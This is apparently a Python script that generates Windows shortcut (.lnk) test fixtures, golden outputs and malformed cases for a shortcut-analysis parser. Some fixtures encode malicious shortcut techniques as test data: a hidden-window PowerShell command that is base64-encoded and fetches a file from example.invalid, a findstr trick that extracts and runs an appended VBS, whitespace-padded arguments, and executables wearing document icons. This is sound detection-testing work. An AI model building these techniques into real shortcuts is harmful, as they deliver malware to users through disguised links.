#!/usr/bin/env python3
"""Builds the ShellLink test fixtures in Tests/ShellLinkTests/Resources/.

Regenerate (from the repository root):

    python3 -m venv .venv-fixtures
    .venv-fixtures/bin/pip install -r scripts/requirements-fixtures.txt
    .venv-fixtures/bin/python scripts/make-lnk-fixtures.py

Output:

- fixtures/*.lnk: shortcuts written with pylnk3 (powershell-enc, findstr-vbs, padded, benign-pdf, unc) and byte
  by byte with struct (tracker: IDList with version 9 0xBEEF0004 blocks, Unicode LinkInfo, tracker, property
  store, known and special folder blocks; ansi: 8-bit strings in Windows-1252). Timestamps are fixed so that the
  output is reproducible.
- corpus/calc.lnk: the shortcut inside the OLE10Native stream of Tests/Corpus/oletools/oleobj/
  sample_with_lnk_file.doc (oletools, BSD-2), MD5 6aedb1a876d4ad5236f1fbbbeb7274f3.
- expected.json: what this script put in each fixture (target, arguments, icon, machine ID, MAC, appended bytes,
  the indicators LNKAnalysis must report).
- golden/*.json: LnkParse3 (the peer) on every fixture: its full JSON (lnkparse3/*.json) and the fields the tests
  compare, flattened (golden/*.json).
- malformed/*.lnk and malformed/manifest.json: a valid shortcut with one structure broken, and the anomaly codes
  (or error code) the parser must report.

Every URL uses example.invalid; the appended VBS only shows a message box.
"""

import base64
import datetime
import hashlib
import io
import json
import os
import shutil
import struct
import sys
import uuid

import olefile
import pylnk3
import LnkParse3

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "Tests", "ShellLinkTests", "Resources")
CORPUS = os.path.join(ROOT, "Tests", "Corpus", "oletools")
FUZZ_SEEDS = os.path.join(ROOT, "fuzz", "corpus", "FuzzLNK")
FIXED_TIME = datetime.datetime(2022, 4, 25, 9, 30, 0)
CALC_LNK_MD5 = "6aedb1a876d4ad5236f1fbbbeb7274f3"

MY_COMPUTER = "20D04FE0-3AEA-1069-A2D8-08002B30309D"


def sha256(b):
    return hashlib.sha256(b).hexdigest()


def write(path, data):
    full = os.path.join(OUT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(data)


# ---------------------------------------------------------------------------------------------------------------
# pylnk3 shortcuts, with fixed times.

def pylnk(target, arguments=None, icon=None, icon_index=0, work_dir=None, description=None, window=None,
          blocks=None):
    lnk = pylnk3.for_file(target, arguments=arguments, description=description, icon_file=icon,
                          icon_index=icon_index, work_dir=work_dir, window_mode=window)
    lnk.creation_time = lnk.access_time = lnk.modification_time = FIXED_TIME
    items = getattr(getattr(lnk, "shell_item_id_list", None), "items", None) or []
    for item in items:
        for field in ("created", "modified", "accessed"):
            if hasattr(item, field):
                setattr(item, field, FIXED_TIME)
    if blocks:
        if lnk.extra_data is None:
            lnk.extra_data = pylnk3.ExtraData(blocks=[])
        lnk.extra_data.blocks.extend(blocks)
    buf = io.BytesIO()
    lnk.write(buf)
    return buf.getvalue()


def environment_block(target, signature=0xA0000001):
    block = pylnk3.ExtraData_Unparsed(signature=signature)
    block.data = target.encode("latin-1").ljust(260, b"\0") + target.encode("utf-16-le").ljust(520, b"\0")
    return block


# ---------------------------------------------------------------------------------------------------------------
# A shortcut written byte by byte ([MS-SHLLINK]), for what pylnk3 cannot write.

def guid_bytes(text):
    return uuid.UUID(text).bytes_le


def header(flags, show=1, icon_index=0, file_size=0, attributes=0x20):
    ft = 132953526000000000  # 2022-04-25 09:30 UTC as FILETIME
    return (struct.pack("<I", 0x4C) + guid_bytes("00021401-0000-0000-C000-000000000046")
            + struct.pack("<IIQQQIiIHHII", flags, attributes, ft, ft, ft, file_size, icon_index, show, 0, 0, 0, 0))


def id_list(items):
    body = b"".join(struct.pack("<H", len(i) + 2) + i for i in items) + b"\0\0"
    return struct.pack("<H", len(body)) + body


def root_item(guid=MY_COMPUTER):
    return b"\x1f\x50" + guid_bytes(guid)


def drive_item(letter):
    return b"\x2f" + (letter + ":\\").encode() + b"\0" * 19


def file_item(short, long, directory):
    """A file entry item with a version 9 0xBEEF0004 block (Windows 8 and later)."""
    name = short.encode("ascii") + b"\0"
    if len(name) % 2:
        name += b"\0"
    long_bytes = long.encode("utf-16-le") + b"\0\0"
    ext = struct.pack("<HHIII", 0, 9, 0xBEEF0004, 0x4BC05499, 0x4BC05499)
    ext += struct.pack("<HHQQHII", 0x2E, 0, 0x0001000000001234, 0, 0, 0, 0)
    ext += long_bytes + struct.pack("<H", 0x0E + len(name))
    ext = struct.pack("<H", len(ext)) + ext[2:]
    data = struct.pack("<BBIIH", 0x31 if directory else 0x32, 0, 0 if directory else 4096, 0x4BC05499,
                       0x10 if directory else 0x20)
    return data + name + ext


def link_info_unicode(path, serial, label, drive_type=3):
    """LinkInfo with a 0x24-byte header: ANSI and Unicode base path, Unicode volume label."""
    volume = struct.pack("<IIIII", 0, drive_type, serial, 0x14, 0x14) + label.encode("utf-16-le") + b"\0\0"
    volume = struct.pack("<I", len(volume)) + volume[4:]
    ansi = path.encode("latin-1") + b"\0"
    suffix = b"\0"
    uni = path.encode("utf-16-le") + b"\0\0"
    uni_suffix = b"\0\0"
    off_volume = 0x24
    off_ansi = off_volume + len(volume)
    off_suffix = off_ansi + len(ansi)
    off_uni = off_suffix + len(suffix)
    off_uni_suffix = off_uni + len(uni)
    size = off_uni_suffix + len(uni_suffix)
    return (struct.pack("<IIIIIIIII", size, 0x24, 1, off_volume, off_ansi, 0, off_suffix, off_uni, off_uni_suffix)
            + volume + ansi + suffix + uni + uni_suffix)


def string_data(values, unicode=True):
    out = b""
    for v in values:
        if unicode:
            out += struct.pack("<H", len(v)) + v.encode("utf-16-le")
        else:
            raw = v.encode("cp1252")
            out += struct.pack("<H", len(raw)) + raw
    return out


def block(signature, data):
    return struct.pack("<II", len(data) + 8, signature) + data


def tracker_block(machine, mac, seq=0x1234):
    node = int(mac.replace(":", ""), 16)
    volume = uuid.UUID("8D1B0A4E-2C6F-4E7A-9F31-5A7C2B9E0D11")
    file_id = uuid.UUID(fields=(0x3C1E2E4B, 0xD5B1, 0x11EC, 0x80 | (seq >> 8), seq & 0xFF, node))
    data = struct.pack("<II", 0x58, 0) + machine.encode("ascii").ljust(16, b"\0")
    data += volume.bytes_le + file_id.bytes_le + volume.bytes_le + file_id.bytes_le
    return block(0xA0000003, data), str(volume).upper(), str(file_id).upper()


def property_value(pid, text):
    raw = text.encode("utf-16-le") + b"\0\0"
    raw += b"\0" * (-len(raw) % 4)
    body = struct.pack("<IBHHI", pid, 0, 0x1F, 0, len(text) + 1) + raw
    return struct.pack("<I", len(body) + 4) + body


def named_property_value(name, text):
    name_raw = name.encode("utf-16-le") + b"\0\0"
    raw = text.encode("utf-16-le") + b"\0\0"
    raw += b"\0" * (-len(raw) % 4)
    body = struct.pack("<IB", len(name_raw), 0) + name_raw + struct.pack("<HHI", 0x1F, 0, len(text) + 1) + raw
    return struct.pack("<I", len(body) + 4) + body


def storage(fmtid, values):
    body = struct.pack("<I", 0x53505331) + guid_bytes(fmtid) + b"".join(values) + b"\0\0\0\0"
    return struct.pack("<I", len(body) + 4) + body


def property_store_block(storages):
    return block(0xA0000009, b"".join(storages) + b"\0\0\0\0")


F_IDLIST, F_LINKINFO, F_NAME, F_REL, F_WD, F_ARGS, F_ICON, F_UNICODE = (1 << i for i in range(8))
F_EXPSTRING = 1 << 9

TRACKER_MACHINE = "desktop-emo01"
TRACKER_MAC = "00:0c:29:3a:5b:7c"
SID = "S-1-5-21-1004336348-1177238915-682003330-1001"


def tracker_lnk():
    tracker, volume, file_id = tracker_block(TRACKER_MACHINE, TRACKER_MAC)
    path = "C:\\Users\\Public\\Documents\\notes.txt"
    items = [root_item(), drive_item("C"), file_item("Users", "Users", True), file_item("Public", "Public", True),
             file_item("DOCUME~1", "Documents", True), file_item("notes.txt", "notes.txt", False)]
    strings = ["Meeting notes", "..\\..\\Users\\Public\\Documents\\notes.txt", "C:\\Users\\Public\\Documents"]
    props = property_store_block([
        storage("B725F130-47EF-101A-A5F1-02608C9EEBAC", [property_value(10, "notes.txt")]),
        storage("46588AE2-4CBC-4338-BBFC-139326986DCE", [property_value(4, SID)]),
        storage("D5CDD505-2E9C-101B-9397-08002B2CF9AE", [named_property_value("Origin", "mail")]),
    ])
    extra = (tracker + props
             + block(0xA000000B, guid_bytes("FDD39AD0-238F-46AF-ADB4-6C85480369C7") + struct.pack("<I", 0x9D))
             + block(0xA0000005, struct.pack("<II", 0x2E, 0x9D))
             + block(0xA0000004, struct.pack("<I", 932))
             + b"\0\0\0\0")
    data = (header(F_IDLIST | F_LINKINFO | F_NAME | F_REL | F_WD | F_UNICODE, file_size=4096)
            + id_list(items) + link_info_unicode(path, 0x1234ABCD, "Data") + string_data(strings) + extra)
    facts = {
        "target": path, "name": strings[0], "relativePath": strings[1], "workingDirectory": strings[2],
        "machineID": TRACKER_MACHINE, "macAddress": TRACKER_MAC, "droidVolume": volume, "droidFile": file_id,
        "birthVolume": volume, "birthFile": file_id, "volumeSerial": 0x1234ABCD, "volumeLabel": "Data",
        "driveType": 3, "idListPath": path,
        "properties": {
            "{B725F130-47EF-101A-A5F1-02608C9EEBAC} 10": "notes.txt",
            "{46588AE2-4CBC-4338-BBFC-139326986DCE} 4": SID,
            "{D5CDD505-2E9C-101B-9397-08002B2CF9AE} Origin": "mail",
        },
        "knownFolderID": "FDD39AD0-238F-46AF-ADB4-6C85480369C7", "specialFolderID": 0x2E, "consoleCodePage": 932,
        "indicators": [],
    }
    return data, facts


def ansi_lnk():
    """8-bit strings (IsUnicode clear) in Windows-1252, and a LinkInfo with a 0x1C header and a path suffix."""
    suffix = "Rapports\\r\u00e9sum\u00e9.txt"
    base = "C:\\Users\\Public\\"
    volume = struct.pack("<IIII", 0x10 + 6, 3, 0xCAFE0001, 0x10) + b"DATA\0\0"
    ansi = base.encode("cp1252") + b"\0"
    suffix_raw = suffix.encode("cp1252") + b"\0"
    off_volume = 0x1C
    off_ansi = off_volume + len(volume)
    off_suffix = off_ansi + len(ansi)
    size = off_suffix + len(suffix_raw)
    info = struct.pack("<IIIIIII", size, 0x1C, 1, off_volume, off_ansi, 0, off_suffix) + volume + ansi + suffix_raw
    strings = ["R\u00e9sum\u00e9", "C:\\Users\\Public"]
    data = (header(F_LINKINFO | F_NAME | F_WD) + info + string_data(strings, unicode=False) + b"\0\0\0\0")
    facts = {"target": base + suffix, "name": strings[0], "workingDirectory": strings[1], "volumeLabel": "DATA",
             "volumeSerial": 0xCAFE0001, "driveType": 3, "indicators": []}
    return data, facts


# ---------------------------------------------------------------------------------------------------------------

PS_PATH = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
PS_COMMAND = "Invoke-WebRequest https://dl.example.invalid/a.txt"
PS_B64 = base64.b64encode(PS_COMMAND.encode("utf-16-le")).decode()
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
CMD_PATH = "C:\\Windows\\System32\\cmd.exe"
FINDSTR_ARGS = "/c findstr /R \"^'x\" invoice.lnk > %tmp%\\a.vbs && %tmp%\\a.vbs"
VBS = b'MsgBox "x"\r\n'
PADDED_ARGS = " " * 180 + "\r\n" * 60 + "/c start https://dl.example.invalid/b.html"


def fixtures():
    out = {}
    args = "-w hidden -enc " + PS_B64
    out["powershell-enc"] = (
        pylnk(PS_PATH, arguments=args, icon=EDGE, icon_index=11, window="Minimized"),
        {"target": PS_PATH, "arguments": args, "iconLocation": EDGE, "iconIndex": 11, "showCommand": 7,
         "decoded": PS_COMMAND, "idListPath": PS_PATH,
         "indicators": ["lolbin", "encoded-powershell", "url", "hidden-window", "document-icon-on-executable",
                        "hidden-window"]})
    findstr = pylnk(CMD_PATH, arguments=FINDSTR_ARGS, icon="%SystemRoot%\\System32\\shell32.dll", icon_index=1,
                    window="Minimized", blocks=[environment_block("%windir%\\System32\\cmd.exe")])
    out["findstr-vbs"] = (
        findstr + VBS,
        {"target": "%windir%\\System32\\cmd.exe", "arguments": FINDSTR_ARGS,
         "iconLocation": "%SystemRoot%\\System32\\shell32.dll", "iconIndex": 1, "showCommand": 7,
         "environmentTarget": "%windir%\\System32\\cmd.exe", "idListPath": CMD_PATH,
         "appendedOffset": len(findstr), "appendedSize": len(VBS), "appendedSHA256": sha256(VBS),
         "indicators": ["lolbin", "findstr-self-extract", "document-icon-on-executable", "hidden-window",
                        "appended-data"]})
    out["padded"] = (
        pylnk(CMD_PATH, arguments=PADDED_ARGS, icon="C:\\Users\\Public\\Documents\\invoice.pdf"),
        {"target": CMD_PATH, "arguments": PADDED_ARGS, "iconLocation": "C:\\Users\\Public\\Documents\\invoice.pdf",
         "idListPath": CMD_PATH,
         "indicators": ["lolbin", "document-icon-on-executable", "padded-arguments", "url"]})
    out["benign-pdf"] = (
        pylnk("C:\\Users\\Public\\Documents\\report.pdf", description="Quarterly report",
              work_dir="C:\\Users\\Public\\Documents"),
        {"target": "C:\\Users\\Public\\Documents\\report.pdf", "name": "Quarterly report",
         "workingDirectory": "C:\\Users\\Public\\Documents", "idListPath": "C:\\Users\\Public\\Documents\\report.pdf",
         "indicators": []})
    unc = "\\\\files.example.invalid\\share\\update.exe"
    out["unc"] = (
        pylnk(unc),
        # pylnk3 0.4.3 writes the file name inside the CommonNetworkRelativeLink and points CommonPathSuffix at
        # its terminator: by [MS-SHLLINK] the suffix is empty and the network path is the share alone.
        {"target": unc, "environmentTarget": unc, "networkPath": "\\\\FILES.EXAMPLE.INVALID\\SHARE",
         "indicators": ["remote-target"]})
    out["tracker"] = tracker_lnk()
    out["ansi"] = ansi_lnk()
    return out


# ---------------------------------------------------------------------------------------------------------------
# LnkParse3, flattened to the fields the tests compare.

def peer(data):
    lnk = LnkParse3.lnk_file(indata=data, cp="cp1252")
    full = lnk.get_json(get_all=True)
    flat = {}
    h = full["header"]
    flat["linkFlags"] = h["r_link_flags"]
    flat["fileAttributes"] = h["r_file_flags"]
    flat["fileSize"] = h["file_size"]
    flat["iconIndex"] = h["icon_index"]
    flat["showCommand"] = {"SW_SHOWNORMAL": 1, "SW_SHOWMAXIMIZED": 3, "SW_SHOWMINNOACTIVE": 7}.get(h["windowstyle"])
    names = {"description": "name", "relative_path": "relativePath", "working_directory": "workingDirectory",
             "command_line_arguments": "arguments", "icon_location": "iconLocation"}
    for k, v in full.get("data", {}).items():
        flat[names[k]] = v
    info = full.get("link_info") or {}
    if info:
        base = info.get("local_base_path_unicode") or info.get("local_base_path")
        # LnkParse3 1.6.0 reads CommonPathSuffixUnicode 4 bytes past its offset (lnk_info.py, "+ 4"), past the end
        # of the structure in tracker.lnk: the ANSI suffix, which that fixture also carries, is compared instead.
        suffix = info.get("common_path_suffix") or ""
        loc = info.get("location_info") or {}
        if base:
            flat["localBasePath"] = base + (("" if base.endswith("\\") else "\\") + suffix if suffix else "")
        if "drive_serial_number" in loc:
            flat["volumeSerial"] = int(loc["drive_serial_number"], 16)
            flat["driveType"] = loc["r_drive_type"]
            flat["volumeLabel"] = loc.get("volume_label_unicode") or loc.get("volume_label")
        if "net_name" in loc:
            flat["netName"] = loc.get("net_name_unicode") or loc["net_name"]
    items = (full.get("target") or {}).get("items") or []
    flat["idListItems"] = [i.get("primary_name") or i.get("volume_name") or i.get("guid") or i.get("class")
                           for i in items if i]
    extra = full.get("extra", {})
    env = extra.get("ENVIRONMENTAL_VARIABLES_LOCATION_BLOCK")
    if env:
        flat["environmentTarget"] = env["target_unicode"] or env["target_ansi"]
    tracker = extra.get("DISTRIBUTED_LINK_TRACKER_BLOCK")
    if tracker:
        flat["machineID"] = tracker["machine_identifier"]
        flat["droidVolume"] = tracker["droid_volume_identifier"]
        flat["droidFile"] = tracker["droid_file_identifier"]
        flat["birthVolume"] = tracker["birth_droid_volume_identifier"]
        flat["birthFile"] = tracker["birth_droid_file_identifier"]
    props = {}
    for st in (extra.get("METADATA_PROPERTIES_BLOCK") or {}).get("property_store", []):
        for v in st.get("serialized_property_values", []):
            if v.get("value_type") in ("VT_LPWSTR", "VT_BSTR", "VT_LPSTR") and v.get("value") is not None:
                key = "{%s} %s" % (st["format_id"], v["id"] if "id" in v else v.get("name"))
                props.setdefault(key, v["value"])
    flat["properties"] = props
    known = extra.get("KNOWN_FOLDER_LOCATION_BLOCK")
    if known:
        flat["knownFolderID"] = known["known_folder_id"]
    special = extra.get("SPECIAL_FOLDER_LOCATION_BLOCK")
    if special:
        flat["specialFolderID"] = special["special_folder_id"]
    terminal = extra.get("TERMINAL_BLOCK")
    if terminal and terminal.get("size", 4) > 4:
        flat["appendedSize"] = terminal["size"] - 4
        flat["appendedSHA256"] = terminal["appended_data_sha256"]
    return full, flat


# ---------------------------------------------------------------------------------------------------------------
# Malformed shortcuts: (name, bytes, expected anomaly codes or error code).

def malformed(base_lnk):
    cases = []
    valid, _ = tracker_lnk()
    hdr = header(F_IDLIST | F_LINKINFO | F_NAME | F_UNICODE)

    def add(name, data, anomalies=None, error=None):
        cases.append((name, data, {"anomalies": anomalies or [], "error": error}))

    add("not-lnk", b"PK\x03\x04" + b"\0" * 100, error="not-shell-link")
    add("short-header", valid[:40], error="truncated")
    add("empty", b"", error="not-shell-link")
    add("idlist-overrun", hdr + struct.pack("<H", 0x4000) + b"\x14\x00", anomalies=["truncated"])
    items = id_list([root_item()])
    add("idlist-bad-item", header(F_IDLIST) + struct.pack("<H", 6) + b"\x01\x00\x00\x00\x00\x00" + b"\0\0\0\0",
        anomalies=["bad-idlist"])
    add("idlist-trailing", header(F_IDLIST) + struct.pack("<H", len(items) - 2 + 4)
        + items[2:] + b"\xAA\xBB\xCC\xDD" + b"\0\0\0\0", anomalies=["bad-idlist"])
    info = bytearray(link_info_unicode("C:\\x.exe", 1, "L"))
    struct.pack_into("<I", info, 0x10, 0x7000)  # LocalBasePathOffset far outside
    add("linkinfo-bad-offset", header(F_LINKINFO) + bytes(info) + b"\0\0\0\0", anomalies=["bad-linkinfo"])
    add("linkinfo-size-small", header(F_LINKINFO) + struct.pack("<I", 2) + b"\0" * 40,
        anomalies=["bad-linkinfo"])
    add("linkinfo-overrun", header(F_LINKINFO) + struct.pack("<I", 0x1000) + b"\0" * 40, anomalies=["truncated"])
    add("string-overrun", header(F_NAME | F_UNICODE) + struct.pack("<H", 500) + "abc".encode("utf-16-le"),
        anomalies=["truncated"])
    add("no-terminal", header(F_NAME | F_UNICODE) + string_data(["x"]), anomalies=["missing-terminal-block"])
    add("terminal-cut", header(F_NAME | F_UNICODE) + string_data(["x"]) + b"\0\0",
        anomalies=["missing-terminal-block"])
    add("garbage-after-strings", header(F_ARGS | F_UNICODE) + string_data(["/c x"]) + VBS,
        anomalies=["missing-terminal-block"])
    tracker, _, _ = tracker_block("m", "00:11:22:33:44:55")
    bad_tracker = struct.pack("<I", 0x50) + tracker[4:0x50]
    add("tracker-bad-size", header(0) + bad_tracker + b"\0\0\0\0", anomalies=["bad-extra-data"])
    env = environment_block("%windir%\\x.exe").bytes()
    add("duplicate-block", header(0) + env + env + b"\0\0\0\0", anomalies=["duplicate-extra-data"])
    add("unknown-block", header(0) + block(0xA00000FF, b"\0" * 8) + b"\0\0\0\0", anomalies=["unknown-extra-data"])
    add("block-overrun", header(0) + env[:200], anomalies=["truncated"])
    bad_version = bytearray(storage("B725F130-47EF-101A-A5F1-02608C9EEBAC", [property_value(10, "x")]))
    struct.pack_into("<I", bad_version, 4, 0x12345678)
    add("propstore-bad-version", header(0) + property_store_block([bytes(bad_version)]) + b"\0\0\0\0",
        anomalies=["bad-property-store"])
    bad_size = bytearray(storage("B725F130-47EF-101A-A5F1-02608C9EEBAC", [property_value(10, "x")]))
    struct.pack_into("<I", bad_size, 24, 0x7FFFFFF0)  # the value size
    add("propstore-bad-value-size", header(0) + property_store_block([bytes(bad_size)]) + b"\0\0\0\0",
        anomalies=["bad-property-store"])
    bad_string = bytearray(storage("B725F130-47EF-101A-A5F1-02608C9EEBAC", [property_value(10, "x")]))
    struct.pack_into("<I", bad_string, 24 + 13, 0x40000000)  # VT_LPWSTR count
    add("propstore-bad-string", header(0) + property_store_block([bytes(bad_string)]) + b"\0\0\0\0",
        anomalies=["bad-property-store"])
    add("bad-show-command", header(0, show=5) + b"\0\0\0\0", anomalies=["bad-header"])
    reserved = bytearray(header(0))
    reserved[0x44] = 1
    add("reserved-set", bytes(reserved) + b"\0\0\0\0", anomalies=["bad-header"])
    return cases


def extract_calc_lnk():
    path = os.path.join(CORPUS, "oleobj", "sample_with_lnk_file.doc")
    ole = olefile.OleFileIO(path)
    for entry in ole.listdir():
        if entry[-1] != "\x01Ole10Native":
            continue
        d = ole.openstream(entry).read()
        i = 6
        label_end = d.index(b"\0", i)
        label = d[i:label_end]
        i = d.index(b"\0", label_end + 1) + 1 + 4
        (temp_len,) = struct.unpack_from("<I", d, i)
        i += 4 + temp_len
        (n,) = struct.unpack_from("<I", d, i)
        payload = d[i + 4:i + 4 + n]
        if label == b"calc.lnk":
            assert hashlib.md5(payload).hexdigest() == CALC_LNK_MD5
            return payload
    raise SystemExit("calc.lnk not found")


def main():
    for sub in ("fixtures", "golden", "lnkparse3", "malformed", "corpus"):
        shutil.rmtree(os.path.join(OUT, sub), ignore_errors=True)
    expected = {}
    all_fixtures = fixtures()
    calc = extract_calc_lnk()
    write("corpus/calc.lnk", calc)
    all_fixtures["calc"] = (calc, {"target": "C:\\Windows\\System32\\calc.exe",
                                   "relativePath": "..\\..\\..\\Windows\\System32\\calc.exe",
                                   "workingDirectory": "C:\\Windows\\System32", "machineID": "gwt-7-32-ol2003",
                                   "macAddress": "9d:90:81:b7:35:c8", "md5": CALC_LNK_MD5,
                                   "idListPath": "C:\\Windows\\System32\\calc.exe", "indicators": []})
    os.makedirs(FUZZ_SEEDS, exist_ok=True)
    for name, (data, facts) in all_fixtures.items():
        if name != "calc":
            write("fixtures/%s.lnk" % name, data)
        facts["file"] = ("corpus/%s.lnk" if name == "calc" else "fixtures/%s.lnk") % name
        facts["size"] = len(data)
        expected[name] = facts
        full, flat = peer(data)
        write("lnkparse3/%s.json" % name, (json.dumps(full, indent=2, sort_keys=True, default=str) + "\n").encode())
        write("golden/%s.json" % name, (json.dumps(flat, indent=2, sort_keys=True) + "\n").encode())
        with open(os.path.join(FUZZ_SEEDS, name + ".lnk"), "wb") as f:
            f.write(data)
    write("expected.json", (json.dumps(expected, indent=2, sort_keys=True) + "\n").encode())
    manifest = {}
    for name, data, exp in malformed(all_fixtures["tracker"][0]):
        write("malformed/%s.lnk" % name, data)
        manifest[name] = exp
    write("malformed/manifest.json", (json.dumps(manifest, indent=2, sort_keys=True) + "\n").encode())
    print("%d fixtures, %d malformed" % (len(expected), len(manifest)))


if __name__ == "__main__":
    main()
